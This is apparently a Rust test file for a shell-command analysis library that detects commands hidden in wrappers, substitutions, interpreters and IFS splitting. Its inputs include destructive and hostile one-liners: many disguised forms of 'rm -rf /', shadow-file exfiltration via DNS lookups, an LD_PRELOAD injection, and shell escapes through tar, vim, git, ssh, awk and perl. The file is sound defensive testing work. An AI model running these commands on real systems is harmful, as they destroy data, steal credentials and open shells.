//! Integration tests of the shell analysis: regression tests named after what they guard, limits,
//! and property tests that it never panics and that composition keeps every part.
#![allow(clippy::panic)] // reason: the helpers of this test binary fail a test by panicking
use toolcap_shell::{
    Analysis, Limits, Name, ShellError, Source, WrapperKind, analyze, analyze_bytes, analyze_with,
};

fn names(a: &Analysis) -> Vec<String> {
    a.commands
        .iter()
        .map(|c| match &c.name {
            Name::Static(s) => s.clone(),
            Name::Dynamic(s) => format!("${{{s}}}"),
        })
        .collect()
}

fn ok(line: &str) -> Analysis {
    analyze(line).unwrap_or_else(|e| panic!("{line}: {e}"))
}

fn find<'a>(a: &'a Analysis, name: &str) -> &'a toolcap_shell::SimpleCommand {
    a.commands
        .iter()
        .find(|c| c.static_name() == Some(name))
        .unwrap_or_else(|| panic!("no {name} in {:?}", names(a)))
}

fn args(c: &toolcap_shell::SimpleCommand) -> Vec<&str> {
    c.args().collect()
}

/// Composition: every simple command of lists, pipelines and compound commands is found.
mod composition {
    use super::*;

    #[test]
    fn for_list_substitutions_bind_the_loop_variable() {
        let a = ok("for l in $(cat /etc/shadow | base64) x; do dig $l.x.io; done");
        assert_eq!(names(&a), ["cat", "base64", "dig"]);
        assert!(a.loop_values.contains(&(1, "l".to_owned())));
        assert!(a.pipes.contains(&(0, 1)));
        assert!(
            ok("for h in web1 web2; do ping $h; done")
                .loop_values
                .is_empty()
        );
    }

    #[test]
    fn cd_then_rm_root() {
        let a = ok("cd x && rm -rf /");
        assert_eq!(names(&a), ["cd", "rm"]);
        assert_eq!(args(&a.commands[1]), ["-rf", "/"]);
    }

    #[test]
    fn lists_pipelines_and_background() {
        let a = ok("a; b || c & d | e |& f");
        assert_eq!(names(&a), ["a", "b", "c", "d", "e", "f"]);
        assert!(a.pipes.contains(&(3, 4)) && a.pipes.contains(&(4, 5)));
        assert_eq!(a.commands[4].stdin, Source::Pipe(3));
    }

    #[test]
    fn compound_commands() {
        let a = ok(
            "if true; then (rm a); else { rm b; }; fi; for f in *; do rm $f; done; while false; do rm c; done; case x in y) rm d;; esac; f() { rm e; }",
        );
        assert_eq!(names(&a).iter().filter(|n| *n == "rm").count(), 6);
    }

    #[test]
    fn substitutions_everywhere() {
        let a = ok(r#"echo "$(rm a)" `rm b` x=$(rm c) <(rm d) ${v:-$(rm e)} $(( $(rm f) + 1 ))"#);
        assert_eq!(
            names(&a).iter().filter(|n| *n == "rm").count(),
            6,
            "{:?}",
            names(&a)
        );
        let b = ok("X=$(rm g) true");
        assert!(names(&b).contains(&"rm".to_owned()));
    }

    #[test]
    fn redirections_are_recorded() {
        let a = ok("echo hi > /etc/passwd 2>>log < in");
        let c = &a.commands[0];
        assert_eq!(c.redirects.len(), 3);
        assert!(c.redirects[0].op.writes());
        assert_eq!(c.redirects[0].target.text, "/etc/passwd");
        assert_eq!(c.stdin, Source::File(toolcap_shell::Word::literal("in")));
        let g = ok("{ cat; } > /dev/sda");
        assert_eq!(g.commands[0].redirects[0].target.text, "/dev/sda");
    }
}

/// Wrappers are unwrapped and the command they run is found.
mod wrappers {
    use super::*;

    #[test]
    fn timeout_rm_root() {
        let a = ok("timeout 5 rm -rf /");
        assert_eq!(names(&a), ["rm"]);
        assert_eq!(a.commands[0].via[0].program, "timeout");
    }

    #[test]
    fn sudo_is_privileged() {
        let a = ok("sudo -u root -E nice -n 5 env -i FOO=1 LD_PRELOAD=/tmp/x.so rm -rf /");
        let rm = find(&a, "rm");
        assert!(rm.privileged);
        assert!(rm.assignments.iter().any(|x| x.name == "LD_PRELOAD"));
        assert_eq!(rm.via.len(), 3);
    }

    #[test]
    fn bash_c_string() {
        let a = ok(r#"bash -c "cd /tmp && rm -rf /""#);
        assert_eq!(names(&a), ["cd", "rm"]);
        assert!(a.commands[1].reached_via(WrapperKind::Shell));
    }

    #[test]
    fn xargs_rm() {
        let a = ok("find . -name '*.o' | xargs -0 rm -f");
        assert_eq!(names(&a), ["find", "rm"]);
        assert!(a.commands[1].reached_via(WrapperKind::Xargs));
    }

    #[test]
    fn find_exec_and_delete() {
        let a = ok(r"find / -name x -exec rm -rf {} \; -delete");
        assert_eq!(names(&a), ["find", "rm"]);
        assert!(args(&a.commands[0]).contains(&"-delete"));
        let b = ok(r"find . -exec /bin/sh \;");
        assert_eq!(names(&b), ["find", "sh"]);
    }

    #[test]
    fn computed_names() {
        assert_eq!(names(&ok("$(echo rm) -rf /")), ["echo", "rm"]);
        assert_eq!(names(&ok(r"\rm -rf /")), ["rm"]);
        assert_eq!(names(&ok("/usr/bin/rm -rf /")), ["rm"]);
        assert_eq!(names(&ok("'rm' -rf /")), ["rm"]);
        assert_eq!(names(&ok(r"$'\x72m' -rf /")), ["rm"]);
        let a = ok("$CMD -rf /");
        assert!(matches!(a.commands[0].name, Name::Dynamic(_)));
        let b = ok("$(curl -s x) now");
        assert!(matches!(b.commands[1].name, Name::Dynamic(_)));
    }

    #[test]
    fn eval_ssh_watch_su() {
        assert_eq!(names(&ok("eval 'rm -rf /'")), ["rm"]);
        let a = ok("ssh -p 22 host 'rm -rf /'");
        assert_eq!(names(&a), ["ssh", "rm"]);
        assert!(a.commands[1].remote);
        assert_eq!(names(&ok("watch -n 1 'rm -rf /'")), ["rm"]);
        let s = ok("su -c 'rm -rf /' root");
        assert!(s.commands[0].privileged);
    }

    #[test]
    fn interpreter_strings() {
        let a = ok(r#"python3 -c 'import os; os.system("rm -rf /")'"#);
        assert_eq!(names(&a), ["python3", "rm"]);
        assert!(a.commands[0].code.is_some());
        assert!(a.commands[1].reached_via(WrapperKind::Interpreter));
        assert_eq!(
            names(&ok(r#"awk 'BEGIN{system("/bin/sh")}'"#)),
            ["awk", "sh"]
        );
        assert_eq!(names(&ok(r#"perl -e 'exec "/bin/sh";'"#)), ["perl", "sh"]);
    }

    #[test]
    fn options_that_run_commands() {
        assert_eq!(
            names(&ok(
                "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh"
            )),
            ["tar", "sh"]
        );
        assert_eq!(names(&ok("vim -c ':!/bin/sh'")), ["vim", "sh"]);
        assert_eq!(
            names(&ok("git -c core.pager='sh -c \"exec sh\"' -p help")),
            ["git", "sh"]
        );
        assert_eq!(
            names(&ok("ssh -o ProxyCommand=';sh 0<&2 1>&2' x")),
            ["ssh", "sh"]
        );
        assert_eq!(
            names(&ok("PAGER='sh -c \"exec sh 0<&1\"' git -p help")),
            ["sh", "git"]
        );
    }

    #[test]
    fn heredoc_is_data_unless_fed_to_a_shell() {
        assert_eq!(names(&ok("cat <<EOF > f\nrm -rf /\nEOF\n")), ["cat"]);
        assert_eq!(names(&ok("bash <<EOF\nrm -rf /\nEOF\n")), ["rm"]);
        assert_eq!(names(&ok("sh <<< 'rm -rf /'")), ["rm"]);
    }

    #[test]
    fn quoted_data_is_harmless() {
        assert_eq!(names(&ok(r#"echo "rm -rf /""#)), ["echo"]);
        assert_eq!(names(&ok(r#"grep -r "rm -rf" docs"#)), ["grep"]);
    }
}

/// Bounds: adversarial input is a typed error in bounded time, never a crash.
mod limits {
    use super::*;

    #[test]
    fn ten_thousand_nested_substitutions() {
        let s = format!("{}x{}", "$(".repeat(10_000), ")".repeat(10_000));
        assert!(matches!(analyze(&s), Err(ShellError::TooDeep { .. })));
        let s = format!("{}x{}", "(".repeat(10_000), ")".repeat(10_000));
        assert!(matches!(analyze(&s), Err(ShellError::TooDeep { .. })));
    }

    #[test]
    fn nesting_up_to_the_limit_parses() {
        let depth = Limits::default().max_unwrap - 1;
        let s = format!("{}echo x{}", "$(".repeat(depth), ")".repeat(depth));
        ok(&s);
    }

    #[test]
    fn one_megabyte_line() {
        let s = "a".repeat(1 << 20);
        assert!(matches!(analyze(&s), Err(ShellError::TooLong { .. })));
    }

    #[test]
    fn too_many_commands() {
        let s = "true;".repeat(600);
        assert!(matches!(
            analyze(&s),
            Err(ShellError::TooManyCommands { .. })
        ));
        let limits = Limits {
            max_commands: 1000,
            ..Limits::default()
        };
        assert!(analyze_with(&s, &limits).is_ok());
    }

    #[test]
    fn nested_shell_strings() {
        let s = format!("{}rm -rf /", "eval ".repeat(40));
        assert!(matches!(
            analyze(&s),
            Err(ShellError::TooManyWrappers { .. })
        ));
        let s = format!("{}rm -rf /", "eval ".repeat(5));
        assert_eq!(names(&ok(&s)), ["rm"]);
    }

    #[test]
    fn invalid_utf8_and_syntax_errors() {
        assert_eq!(
            analyze_bytes(b"ls \xff", &Limits::default()),
            Err(ShellError::InvalidUtf8)
        );
        assert!(matches!(
            analyze("echo 'unterminated"),
            Err(ShellError::Syntax(_))
        ));
        assert!(matches!(
            analyze("if then fi ;;"),
            Err(ShellError::Syntax(_))
        ));
    }
}

/// Property tests: no input panics; composing lines keeps every part.
mod properties {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

        #[test]
        fn never_panics_on_strings(s in "\\PC{0,200}") {
            let _ = analyze(&s);
        }

        #[test]
        fn never_panics_on_shell_alphabet(s in "[a-z$(){}`'\"\\\\|&;<> \n=-]{0,120}") {
            let _ = analyze(&s);
        }

        #[test]
        fn never_panics_on_bytes(b in proptest::collection::vec(any::<u8>(), 0..200)) {
            let _ = analyze_bytes(&b, &Limits::default());
        }

        #[test]
        fn composition_keeps_every_part(a in "[a-z]{1,8}", b in "[a-z]{1,8}", op in prop::sample::select(vec!["&&", "||", ";", "|", "&"])) {
            // A wrapper (`env y`, `time y`) stands for the command it runs, not for itself.
            let wrappers = ["env", "time", "nice", "nohup", "sudo", "doas", "exec", "command", "builtin", "timeout", "xargs", "eval", "watch", "setsid", "stdbuf", "su"];
            prop_assume!(!wrappers.contains(&b.as_str()));
            let alone = analyze(&format!("{a} x")).map(|r| r.commands.len());
            let joined = analyze(&format!("{a} x {op} {b} y"));
            if let (Ok(n), Ok(j)) = (alone, joined) {
                prop_assert!(j.commands.len() > n);
                prop_assert!(j.commands.iter().any(|c| c.static_name() == Some(b.as_str())));
            }
        }

        #[test]
        fn wrapping_keeps_the_command(w in prop::sample::select(vec!["timeout 5", "nice -n 1", "nohup", "env", "sudo", "command", "time", "stdbuf -o0", "xargs", "bash -c", "eval"])) {
            let line = if w.ends_with("-c") || w == "eval" { format!("{w} 'rm -rf /'") } else { format!("{w} rm -rf /") };
            let a = analyze(&line).unwrap();
            // `xargs` appends its input (unknown here) after the arguments.
            prop_assert!(a.commands.iter().any(|c| c.static_name() == Some("rm") && c.args().take(2).collect::<Vec<_>>() == ["-rf", "/"]), "{:?}", a);
        }
    }
}

/// Field splitting: what an unquoted expansion becomes once the shell splits it.
mod field_splitting {
    use super::*;

    #[test]
    fn a_whole_static_substitution_is_split_into_words() {
        for line in [
            "$(echo rm -rf /)",
            "`echo rm -rf /`",
            "$(printf 'rm -rf /')",
        ] {
            let a = ok(line);
            let rm = find(&a, "rm");
            assert_eq!(args(rm), ["-rf", "/"], "{line}");
        }
        // Quoted, the output stays one word.
        let a = ok(r#"echo "$(echo a b)""#);
        let outer = a.commands.last().unwrap_or_else(|| panic!("no command"));
        assert_eq!(args(outer), ["a b"]);
    }

    #[test]
    fn output_with_blanks_inside_a_larger_word_is_run_time_only() {
        let a = ok("x$(echo a b)");
        let last = a.commands.last().unwrap_or_else(|| panic!("no command"));
        assert!(matches!(last.name, Name::Dynamic(_)), "{:?}", last.name);
    }

    #[test]
    fn a_changed_ifs_splits_on_blanks_and_the_new_separators() {
        for line in [
            "IFS=_; c=rm_-rf_/; $c",
            "IFS=,; $(echo rm,-rf,/)",
            "IFS=_; c=rm; $c -rf /",
            "c='rm -rf /'; $c",
            "IFS=_; c='rm -rf_/'; $c",
        ] {
            let a = ok(line);
            assert_eq!(args(find(&a, "rm")), ["-rf", "/"], "{line}");
        }
        // Quoted, a value is not split.
        let a = ok(r#"c='rm -rf /'; "$c""#);
        let last = a.commands.last().unwrap_or_else(|| panic!("no command"));
        assert!(matches!(last.name, Name::Dynamic(_)), "{:?}", last.name);
    }

    #[test]
    fn a_run_time_ifs_makes_every_expansion_run_time_only() {
        for line in [
            "IFS=$1; c=rmx-rfx/; $c",
            "IFS=$1; $(echo rm,-rf,/)",
            "IFS=$1; c=rm; $c -rf /",
        ] {
            let a = ok(line);
            let last = a.commands.last().unwrap_or_else(|| panic!("no command"));
            assert!(
                matches!(last.name, Name::Dynamic(_)),
                "{line}: {:?}",
                last.name
            );
        }
    }
}
